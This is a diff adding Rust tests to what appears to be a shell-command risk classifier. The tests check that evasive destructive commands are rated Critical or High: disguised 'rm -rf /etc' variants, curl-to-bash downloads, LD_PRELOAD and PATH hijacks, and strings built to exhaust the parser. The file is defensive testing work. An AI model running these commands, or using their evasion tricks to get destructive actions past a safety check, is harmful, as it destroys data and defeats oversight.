@@ -264,3 +264,100 @@ fn what_is_suggested_is_better() {
     }
     assert!(suggestions("ls -la").suggestions.is_empty());
 }
+
+#[test]
+fn what_may_not_be_reached_takes_nothing_away() {
+    all_are(
+        Critical,
+        &[
+            "rm(){ :; }; env rm -rf /etc",
+            "rm(){ :; }; sh -c 'rm -rf /etc'",
+            "false && rm(){ :; }; rm -rf /etc",
+            "if x; then rm(){ :; }; fi; rm -rf /etc",
+            "alias rm=echo; rm -rf /etc",
+            "x=/etc; [ -e /no ] && x=/tmp/q; rm -rf $x",
+            "cd /etc; [ -d /tmp/x ] && cd /tmp/x; rm -rf *",
+            "cd /etc; cd /tmp/nosuch; rm -rf *",
+            "x=/etc; x=/tmp/q | cat; rm -rf $x",
+            "x=/etc; x=/tmp/q & rm -rf $x",
+            "case $1 in a) x=/tmp/1;; b) x=/tmp/2;; c) x=/tmp/3;; esac; x=${x:-/etc}; rm -rf /etc",
+            "echo 'rm -rf /etc' > x; ssh h 'echo ls > x'; sh x",
+            "while read -r l; do $l; done <<< $'ls\\nrm -rf /etc'",
+            "for x in /tmp/{1..40} /etc; do rm -rf $x; done",
+            "rm -rf /tmp/*/../../etc",
+            "mv ~ /tmp/x",
+        ],
+    );
+}
+
+#[test]
+fn code_hides_in_odd_places() {
+    all_are(
+        Critical,
+        &[
+            "python3 -c 'import os; os.system(\"rm -rf /etc\")' --help",
+            "timeout 5 sh -c 'rm -rf /etc' --help",
+            "mapfile -C 'rm -rf /etc #' -c1 x < f",
+            "compgen -C 'rm -rf /etc' x",
+            "set -x rm -rf /etc; \"$@\"",
+            "test -v 'a[$(rm -rf /etc)]'",
+            "a=([$(rm -rf /etc)]=1)",
+            "curl -s http://example.org/x | bash /dev/fd/0",
+            "curl -s http://example.org/x | bash <(cat)",
+        ],
+    );
+    all_are_at_least(High, &["hash -p /bin/rm ls; ls -rf /etc", "sh /dev/fd/0"]);
+}
+
+#[test]
+fn given_variables_count_as_written() {
+    for (name, value) in [
+        ("PATH", "/tmp/evil:/bin"),
+        ("BASH_ENV", "/tmp/x"),
+        ("LD_PRELOAD", "/tmp/x.so"),
+        ("GIT_CONFIG_COUNT", "1"),
+        ("BASH_FUNC_id%%", "() { x; }"),
+    ] {
+        let env = [(name.to_owned(), value.to_owned())].into();
+        let context = Context { env, ..Context::default() };
+        assert!(judge(&Program::Shell("ls".into()), &context).level >= High, "{name}");
+    }
+    let context = Context { stdin: Some("rm -rf /".into()), ..Context::default() };
+    assert_eq!(judge(&Program::Shell("sh /dev/fd/0".into()), &context).level, Critical);
+}
+
+#[test]
+fn it_ends_soon_and_takes_little() {
+    let began = std::time::Instant::now();
+    for line in [
+        "for i in {1..24};do x=$x$x;done".to_owned(),
+        (0..400).map(|n| format!("a{}=$a{n}$a{n};", n + 1)).collect(),
+        "printf -v x '%s%s' \"$x\" \"$x\";".repeat(30),
+        "xargs ".repeat(2000),
+        "sudo ".repeat(12_000),
+        "docker run x ".repeat(1000),
+        format!("[[ {}a ]]", "! ".repeat(20_000)),
+        format!("x={}; {}", "a".repeat(1000), "echo ${x##*a*a*a*a*a*b};".repeat(50)),
+        format!("/bin/[{}", "a".repeat(50_000)),
+        "sudo *do ".repeat(20),
+    ] {
+        let _ = verdict(&line);
+    }
+    // Some of them took minutes, gigabytes, or the stack. A debug build on a busy machine is slow.
+    assert!(began.elapsed() < std::time::Duration::from_secs(20), "{:?}", began.elapsed());
+}
+
+#[test]
+fn another_shell_is_not_judged_as_one_that_is_known() {
+    for context in [
+        Context { shell: "fish".into(), ..Context::default() },
+        Context { system: "Windows".into(), ..Context::default() },
+    ] {
+        assert!(
+            judge(&Program::Shell("ls".into()), &context)
+                .effects
+                .iter()
+                .any(|effect| effect.kind == EffectKind::Unknown)
+        );
+    }
+}
